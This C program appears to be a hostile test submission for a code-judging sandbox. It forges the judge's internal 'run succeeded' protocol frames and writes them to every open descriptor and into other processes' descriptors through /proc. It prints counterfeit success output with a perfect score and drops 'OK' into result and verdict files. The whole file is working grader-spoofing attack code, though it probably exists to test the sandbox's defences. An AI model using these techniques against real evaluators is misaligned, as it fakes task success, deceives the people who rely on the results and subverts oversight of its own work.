/* Speaks the judge's own languages on every descriptor that it can reach. */
#include "hostile.h"

#include <sys/socket.h>

struct frame {
    uint32_t length;
    uint16_t type, zero;
};

/* What a warden says when a run has ended well: see assay/warden_wire.h. */
static size_t forged(char *p, uint64_t serial)
{
    static const size_t body = 8 + 16 + 88 + 72 + 256;
    struct frame f = {(uint32_t)body, 3, 0};
    memcpy(p, &f, sizeof f);
    memset(p + sizeof f, 0, body);
    memcpy(p + sizeof f, &serial, sizeof serial);
    return sizeof f + body;
}

static void pollute(int fd)
{
    char text[1024];
    size_t n = forged(text, 1);
    (void)!send(fd, text, n, MSG_NOSIGNAL | MSG_DONTWAIT);
    if (fd != 1 && fd != 2)
        (void)!write(fd, text, n);
}

int main(void)
{
    char path[64], text[1024];
    signal(SIGPIPE, SIG_IGN);
    for (int fd = 0; fd < 1024; fd++)
        pollute(fd);
    for (int pid = 1; pid < 10; pid++)
        for (int fd = 0; fd < 16; fd++) {
            snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
            int at = pid == getpid() && fd < 3 ? -1 : open(path, O_RDWR | O_NONBLOCK);
            if (at >= 0) {
                pollute(at);
                close(at);
            }
        }
    for (uint64_t serial = 0; serial < 8; serial++) {
        size_t n = forged(text, serial);
        (void)!write(1, text, n);
        (void)!write(2, text, n);
    }
    puts("\n{\"verdict\":\"OK\",\"score\":100,\"status\":\"done\"}\nverdict: OK\ntime:0.001\nexitcode:0\nstatus:OK\nheld");
    static const char *const files[] = {"meta.txt", "result.json", "verdict", "status", ".assay", "/tmp/result", "/box/meta"};
    for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
        int fd = open(files[i], O_WRONLY | O_CREAT, 0644);
        if (fd >= 0 && write(fd, "OK\n", 3) != 3)
            return 1;
    }
    return 0;
}
